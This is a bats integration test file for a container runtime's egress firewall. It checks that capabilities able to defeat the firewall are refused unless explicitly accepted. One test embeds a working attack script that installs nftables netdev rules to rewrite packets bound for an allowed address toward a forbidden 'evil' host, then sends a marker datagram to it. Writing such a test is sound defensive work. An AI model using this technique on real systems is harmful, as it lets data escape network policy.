#!/usr/bin/env bats
# hardening, issue 12 class 5: capabilities that defeat a namespace-scoped firewall. `create`
# refuses a firewalled container whose process may hold one (any set), `exec` refuses to add
# one, and cgfw.io/accept-capabilities accepts exactly those it lists (with a warning in the
# runtime's log and the report). docs/security-model.md ("Capabilities") gives the reasoning.
#
#   bats integration/bats/hardening_caps.bats
#
# Needs root, gcc, musl-gcc, jq, dnsmasq, busybox-static, iproute2, python3, nftables (the
# attack test copies the host's nft, with its libraries, into the container's rootfs).

load helpers
load firewall_helpers
load hardening_helpers

setup_file() {
	fw_setup_file hc
	# rawsend (UDP sendto): busybox's nc here has no -u.
	gcc -O2 -Wall -static -o "$FW_TOOLS/rawsend" "$HD_TOOLS_SRC/rawsend.c"
}
teardown_file() { fw_teardown_file; }

setup() {
	fw_setup
	c=$(cid hc)
}

teardown() {
	# The attack test's nftables table lives in the world's client netns, shared by the file.
	ip netns exec "$FW_WORLD-c" nft delete table netdev cgfwx 2>/dev/null || true
	teardown_common
}

ALLOW=cgfw.io/allow=allowed.test
ACCEPT=cgfw.io/accept-capabilities
DEFEATING=(CAP_NET_ADMIN CAP_SYS_ADMIN CAP_BPF CAP_SYS_MODULE CAP_SYS_PTRACE CAP_SYS_RAWIO CAP_DAC_READ_SEARCH)
SETS=(bounding effective permitted inheritable ambient)

# set_caps BUNDLE SET CAP...: every set holds exactly runc's defaults, SET also CAP...
set_caps() {
	local b=$1 set=$2 extra
	shift 2
	extra=$(printf '%s\n' "$@" | jq -R . | jq -sc .)
	spec_edit "$b" '.process.capabilities = {bounding: ["CAP_AUDIT_WRITE", "CAP_KILL", "CAP_NET_BIND_SERVICE"],
		effective: ["CAP_AUDIT_WRITE", "CAP_KILL", "CAP_NET_BIND_SERVICE"],
		permitted: ["CAP_AUDIT_WRITE", "CAP_KILL", "CAP_NET_BIND_SERVICE"],
		inheritable: [], ambient: []}
		| .process.capabilities.'"$set"' += '"$extra"
}

# refused_create ID BUNDLE: create fails (its error in \$output); nothing of ID is left.
refused_create() {
	run frt --log "$TEST_DIR/rt.log" --log-format json create --bundle "$2" "$1"
	[ "$status" -ne 0 ] || fail "create of $1 succeeded"
	local refusal=$output
	assert_clean "$1"
	[ ! -e "$LOGS/$1.jsonl" ] || fail "event log created for a refused container"
	[ ! -e "$LOGS/$1.report.json" ] || fail "report created for a refused container"
	output=$refusal
}

# log_has FILE LEVEL REGEX: the runtime's JSON log (--log-format json) has a LEVEL line
# whose message matches REGEX (jq syntax).
log_has() {
	jq -s -e --arg level "$2" --arg re "$3" 'any(.[]; .level == $level and (.msg | test($re)))' "$1" >/dev/null
}

# userns BUNDLE: a user namespace of its own (uid/gid 0 -> 100000), as hardening.bats does.
userns() {
	chmod 755 "$TEST_DIR"
	spec_edit "$1" '.linux.namespaces += [{type: "user"}]
		| .linux.uidMappings = [{containerID: 0, hostID: 100000, size: 65536}]
		| .linux.gidMappings = [{containerID: 0, hostID: 100000, size: 65536}]
		| .mounts |= map(select(.destination != "/sys/fs/cgroup" and .destination != "/dev/mqueue" and .destination != "/sys"))
		| .process.noNewPrivileges = false'
}

@test "create refused: every defeating capability in every set (bounding only included), error names it, nothing left" {
	local cap set id n=0
	fwbundle "$TEST_DIR/b" --annotation "$ALLOW"
	for cap in "${DEFEATING[@]}"; do
		for set in "${SETS[@]}"; do
			id=$(cid "r$n")
			n=$((n + 1))
			set_caps "$TEST_DIR/b" "$set" "$cap"
			refused_create "$id" "$TEST_DIR/b"
			[[ $output == *"can hold $cap (in $set): it "* ]] || fail "$cap in $set: error does not name it: $output"
			[[ $output == *"$ACCEPT: \"$cap\""* ]] || fail "$cap in $set: error does not say how to accept: $output"
		done
	done
	# The named ones, with their reason, through the runc-shaped log (level error).
	log_has "$TEST_DIR/rt.log" error "CAP_NET_ADMIN \(in bounding\): it installs nftables or tc rules on the container.s own interfaces, which run after the firewall.s cgroup egress hook" || fail "no error line for CAP_NET_ADMIN in bounding: $(cat "$TEST_DIR/rt.log")"
	log_has "$TEST_DIR/rt.log" error "CAP_SYS_ADMIN \(in effective\): it can detach the firewall.s BPF programs" || fail "no error line for CAP_SYS_ADMIN in effective"
	log_has "$TEST_DIR/rt.log" error "CAP_BPF \(in ambient\): it loads privileged BPF programs" || fail "no error line for CAP_BPF in ambient"
}

@test "create refused: audit mode, several capabilities at once, and a process without a capabilities object" {
	fwbundle "$TEST_DIR/b" --annotation "$ALLOW" --annotation cgfw.io/mode=audit
	add_caps "$TEST_DIR/b" CAP_NET_ADMIN CAP_SYS_PTRACE
	refused_create "$c" "$TEST_DIR/b"
	[[ $output == *"CAP_NET_ADMIN (in bounding, effective, permitted, ambient)"* ]] || fail "$output"
	[[ $output == *"CAP_SYS_PTRACE (in bounding, effective, permitted, ambient)"* ]] || fail "$output"
	[[ $output == *"$ACCEPT: \"CAP_NET_ADMIN,CAP_SYS_PTRACE\""* ]] || fail "$output"
	# One accepted, the other not: refused for the other only.
	c=$(cid hc2)
	spec_edit "$TEST_DIR/b" ".annotations[\"$ACCEPT\"] = \"CAP_NET_ADMIN\""
	refused_create "$c" "$TEST_DIR/b"
	[[ $output != *"CAP_NET_ADMIN (in"* && $output == *"CAP_SYS_PTRACE (in"* ]] || fail "$output"
	# No capabilities object: libcontainer leaves the runtime's own (root: all of them).
	c=$(cid hc3)
	rm -rf "$TEST_DIR/b"
	fwbundle "$TEST_DIR/b" --annotation "$ALLOW"
	spec_edit "$TEST_DIR/b" 'del(.process.capabilities)'
	refused_create "$c" "$TEST_DIR/b"
	[[ $output == *"CAP_NET_ADMIN (in bounding (process.capabilities is absent"* ]] || fail "$output"
	# Without a policy nothing changes: runc's behaviour.
	c=$(cid hc4)
	rm -rf "$TEST_DIR/b"
	fwbundle "$TEST_DIR/b" --args "true"
	add_caps "$TEST_DIR/b" CAP_NET_ADMIN CAP_SYS_ADMIN
	frt create --bundle "$TEST_DIR/b" "$c" || fail "unfirewalled container with CAP_NET_ADMIN refused"
}

@test "cgfw.io/accept-capabilities: malformed values are refused naming annotation, token and reason" {
	local v want
	while IFS='|' read -r v want; do
		c=$(cid "v$RANDOM")
		rm -rf "$TEST_DIR/b"
		fwbundle "$TEST_DIR/b" --annotation "$ALLOW" --annotation "$ACCEPT=$v"
		refused_create "$c" "$TEST_DIR/b"
		[[ $output == *"$want"* ]] || fail "$v: want '$want', got: $output"
	done <<-'EOF'
		NET_ADMIN|cgfw.io/accept-capabilities: "NET_ADMIN": write capability names as config.json does, in capitals with the CAP_ prefix: "CAP_NET_ADMIN"
		CAP_NET_ADMN|cgfw.io/accept-capabilities: "CAP_NET_ADMN": not a Linux capability
		CAP_CHOWN|cgfw.io/accept-capabilities: "CAP_CHOWN": this capability does not defeat the firewall, so there is no risk to accept
		CAP_BPF,CAP_BPF|cgfw.io/accept-capabilities: "CAP_BPF": listed twice
		 , |cgfw.io/accept-capabilities: " , ": no capability listed
	EOF
	# policy check explains an accepted one and what create will say about the bundle.
	rm -rf "$TEST_DIR/b"
	fwbundle "$TEST_DIR/b" --annotation "$ALLOW" --annotation "$ACCEPT=CAP_NET_ADMIN"
	run -0 rt policy check "$TEST_DIR/b"
	[[ $output == *"CAP_NET_ADMIN: it installs nftables"* && $output == *"can hold none that defeats"* ]] || fail "$output"
	add_caps "$TEST_DIR/b" CAP_NET_ADMIN CAP_BPF
	run -1 rt policy check "$TEST_DIR/b"
	[[ $output == *"create would refuse this bundle"*"CAP_BPF (in"* ]] || fail "$output"
}

@test "accepted: created and running, warning in the runtime's log (level warning) and in the report's warnings" {
	fwbundle "$TEST_DIR/b" --annotation "$ALLOW" --annotation "$ACCEPT=CAP_NET_ADMIN,CAP_SYS_ADMIN" --args "sleep 600"
	set_caps "$TEST_DIR/b" bounding CAP_NET_ADMIN
	frt --log "$TEST_DIR/rt.log" --log-format json create --bundle "$TEST_DIR/b" "$c" || fail "create failed: $(cat "$TEST_DIR/rt.log")"
	frt start "$c"
	wait_status "$c" running 10
	log_has "$TEST_DIR/rt.log" warning "container $c: accepted by cgfw.io/accept-capabilities: .*CAP_NET_ADMIN \(in bounding\): it installs nftables" || fail "no warning in the runtime log: $(cat "$TEST_DIR/rt.log")"
	# Only what the process holds is warned about (CAP_SYS_ADMIN is accepted but not held).
	! grep -q 'CAP_SYS_ADMIN (in' "$TEST_DIR/rt.log" || fail "warned about a capability not held"
	run -0 frt report "$c"
	jq -e '.warnings | any(test("cgfw.io/accept-capabilities: .*CAP_NET_ADMIN \\(in bounding\\)"))' <<<"$output" >/dev/null ||
		fail "report lacks the warning: $output"
	# A plain exec is not warned about again (create did); the firewall is attached as usual.
	frt --log "$TEST_DIR/rt3.log" --log-format json exec "$c" true
	[ ! -s "$TEST_DIR/rt3.log" ] || fail "plain exec logged: $(cat "$TEST_DIR/rt3.log")"
	run -3 cx getconn-musl "$FW_EVIL4"
	frt delete --force "$c"
	jq -e '.warnings | any(test("CAP_NET_ADMIN"))' "$LOGS/$c.report.json" >/dev/null || fail "final report lacks the warning"
	assert_clean "$c"
}

@test "exec: --cap with a defeating capability and --process holding one are refused; others and accepted ones run" {
	fwbundle "$TEST_DIR/b" --annotation "$ALLOW" --annotation "$ACCEPT=CAP_SYS_PTRACE" --args "sleep 600"
	frt create --bundle "$TEST_DIR/b" "$c"
	frt start "$c"
	wait_status "$c" running 10
	run frt --log "$TEST_DIR/rt.log" --log-format json exec --cap CAP_NET_ADMIN "$c" sh -c 'echo RAN; grep CapBnd /proc/self/status'
	[ "$status" -eq 255 ] || fail "exec --cap CAP_NET_ADMIN: rc=$status $output"
	[[ $output != *RAN* ]] || fail "the process ran: $output"
	[[ $output == *"the exec'd process of this firewalled container can hold CAP_NET_ADMIN (in exec --cap CAP_NET_ADMIN): it installs"* ]] || fail "$output"
	log_has "$TEST_DIR/rt.log" error "CAP_NET_ADMIN" || fail "not in the log"
	run frt exec --cap CAP_SYS_ADMIN --cap CAP_CHOWN "$c" echo RAN
	[ "$status" -eq 255 ] && [[ $output == *"CAP_SYS_ADMIN (in exec --cap CAP_SYS_ADMIN)"* && $output != *RAN* ]] || fail "$output"
	# A process.json holding CAP_BPF (only in its bounding set).
	jq '.process | .args = ["sh", "-c", "echo RAN"] | .capabilities.bounding += ["CAP_BPF"]' "$TEST_DIR/b/config.json" >"$TEST_DIR/process.json"
	run frt exec --process "$TEST_DIR/process.json" "$c"
	[ "$status" -eq 255 ] && [[ $output == *"CAP_BPF (in bounding)"* && $output != *RAN* ]] || fail "--process: $output"
	# Not defeating (CAP_NET_RAW is the packet guard's business) and accepted: they run.
	run -0 frt exec --cap CAP_NET_RAW "$c" echo RAN
	[[ $output == *RAN* ]] || fail "$output"
	run -0 frt --log "$TEST_DIR/rt2.log" --log-format json exec --cap CAP_SYS_PTRACE "$c" grep CapEff /proc/self/status
	log_has "$TEST_DIR/rt2.log" warning "accepted by cgfw.io/accept-capabilities: the exec.d process .* CAP_SYS_PTRACE" || fail "no warning for the accepted exec: $(cat "$TEST_DIR/rt2.log")"
	# The container still runs and is firewalled.
	run -3 cx getconn-musl "$FW_EVIL4"
}

@test "user namespace: takes CAP_SYS_ADMIN/CAP_BPF/CAP_SYS_PTRACE away (created), not CAP_NET_ADMIN (refused)" {
	fwbundle "$TEST_DIR/b" --no-net --annotation "$ALLOW" --args "sleep 600"
	add_caps "$TEST_DIR/b" CAP_SYS_ADMIN CAP_BPF CAP_SYS_PTRACE CAP_SYS_MODULE CAP_DAC_READ_SEARCH
	userns "$TEST_DIR/b"
	frt create --bundle "$TEST_DIR/b" "$c" || fail "user-namespaced container with CAP_SYS_ADMIN refused"
	frt delete --force "$c"
	c=$(cid hc2)
	add_caps "$TEST_DIR/b" CAP_NET_ADMIN
	refused_create "$c" "$TEST_DIR/b"
	[[ $output == *"can hold CAP_NET_ADMIN (in bounding"* && $output != *"CAP_SYS_ADMIN (in"* ]] || fail "$output"
	# A user namespace that maps host root takes nothing away.
	c=$(cid hc3)
	spec_edit "$TEST_DIR/b" ".annotations[\"$ACCEPT\"] = \"CAP_NET_ADMIN\"
		| .linux.uidMappings = [{containerID: 0, hostID: 0, size: 65536}]"
	refused_create "$c" "$TEST_DIR/b"
	[[ $output == *"CAP_SYS_ADMIN (in"* ]] || fail "$output"
}

# The attack the refusal is about (issue 12, class 5). Root in the container with CAP_NET_ADMIN
# puts nftables netdev rules on its own interface: egress rewrites the destination of packets
# to an allowed address into a forbidden one (ingress rewrites answers back). netdev egress runs
# in dev_queue_xmit, after cgroup_skb/egress, which saw an allowed packet; the boundary filter
# (TCX egress, after netdev egress) passes packets of the container's own sockets as decided.
# Validated with plain runc first (same bundle, same world, no firewall): a datagram and a TCP
# stream sent to allowed:8080 arrived at the evil host's catchers, and `wget
# http://198.18.0.10/` got evil.test's page. Under cgfw-runc with the boundary filter, the
# forbidden host's answers are dropped by the TCX ingress filter before the nft ingress rewrite,
# so TCP no longer completes; one-way data (UDP) still leaves, which is what this test shows.
# In a user namespace of its own the same nft commands work on its netns's devices (runc, uid
# 0 -> 100000: a netdev egress chain on lo was accepted), which is why a user namespace does not
# make CAP_NET_ADMIN acceptable. Here: without the annotation the container is never created;
# with it, the firewall still refuses sending to the forbidden host directly, but the rewritten
# datagram arrives there (what accepting the risk means, as documented).
@test "attack: CAP_NET_ADMIN rewrites a datagram to an allowed address into one to a forbidden host (nftables netdev); refused unless accepted" {
	command -v nft >/dev/null || fail "nft not installed (hack/install-deps.sh installs nftables)"
	local allow=cgfw.io/allow=$FW_ALLOWED4 r l
	fwbundle "$TEST_DIR/b" --annotation "$allow" --args "sleep 600"
	r=$TEST_DIR/b/rootfs
	cp /usr/sbin/nft "$r/usr/sbin/nft"
	for l in $(ldd /usr/sbin/nft | grep -o '/[^ ]*'); do
		[ -e "$r$l" ] || { mkdir -p "$r$(dirname "$l")"; cp -L "$l" "$r$l"; }
	done
	put_script "$TEST_DIR/b" /attack.sh <<-EOF
		#!/bin/sh
		nft add table netdev cgfwx || exit 10
		nft add chain netdev cgfwx out '{ type filter hook egress device c0 priority 0; }' || exit 11
		nft add rule netdev cgfwx out ip daddr $FW_ALLOWED4 ip daddr set $FW_EVIL4 || exit 12
		nft add chain netdev cgfwx in '{ type filter hook ingress device c0 priority 0; }' || exit 13
		nft add rule netdev cgfwx in ip saddr $FW_EVIL4 ip saddr set $FW_ALLOWED4 || exit 14
		rawsend udp $FW_ALLOWED4 8080 MARKER-REWRITTEN
	EOF
	add_caps "$TEST_DIR/b" CAP_NET_ADMIN
	# Not accepted: never created, nothing to attack from.
	refused_create "$c" "$TEST_DIR/b"
	[[ $output == *"can hold CAP_NET_ADMIN"* ]] || fail "$output"
	# Accepted: the firewall is defeated exactly as described.
	c=$(cid hc2)
	spec_edit "$TEST_DIR/b" ".annotations[\"$ACCEPT\"] = \"CAP_NET_ADMIN\""
	frt create --bundle "$TEST_DIR/b" "$c"
	frt start "$c"
	wait_status "$c" running 10
	catch udp "$FW_EVIL4" 8080
	run cx rawsend udp "$FW_EVIL4" 8080 MARKER-DIRECT
	[ "$status" -ne 0 ] || fail "sending to the forbidden host directly not refused: $output"
	run cx /attack.sh
	echo "# attack: rc=$status $output" >&3
	[ "$status" -eq 0 ] || fail "attack script: rc=$status $output"
	local got i
	for ((i = 0; i < 30; i++)); do
		got=$(caught "$CATCH_LOG")
		[[ $got == *MARKER-REWRITTEN* ]] && break
		sleep 0.1
	done
	echo "# forbidden host received: $got" >&3
	[[ $got == *MARKER-REWRITTEN* ]] || fail "the rewritten datagram did not arrive (the documented attack no longer works?): $got"
	[[ $got != *MARKER-DIRECT* ]] || fail "the direct datagram arrived: $got"
}

# The engines' default capability sets keep working (podman's is also run by
# podman_firewall.bats through podman itself).
@test "engine defaults: containerd's (oci.DefaultSpec, CRI) and podman 4.3's capability sets create and run firewalled" {
	local containerd='["CAP_CHOWN","CAP_DAC_OVERRIDE","CAP_FSETID","CAP_FOWNER","CAP_MKNOD","CAP_NET_RAW","CAP_SETGID","CAP_SETUID","CAP_SETFCAP","CAP_SETPCAP","CAP_NET_BIND_SERVICE","CAP_SYS_CHROOT","CAP_KILL","CAP_AUDIT_WRITE"]'
	local podman='["CAP_CHOWN","CAP_DAC_OVERRIDE","CAP_FOWNER","CAP_FSETID","CAP_KILL","CAP_NET_BIND_SERVICE","CAP_SETFCAP","CAP_SETGID","CAP_SETPCAP","CAP_SETUID","CAP_SYS_CHROOT"]'
	local set
	for set in "$containerd" "$podman"; do
		rm -rf "$TEST_DIR/b"
		# containerd leaves inheritable and ambient out; podman sets them empty.
		HD_EDIT=".process.capabilities = {bounding: $set, effective: $set, permitted: $set}" hd_sleeper --annotation "$ALLOW"
		run -0 cx getconn-musl allowed.test
		run -3 cx getconn-musl "$FW_EVIL4"
		frt delete --force "$c"
		c=$(cid hc2)
	done
}
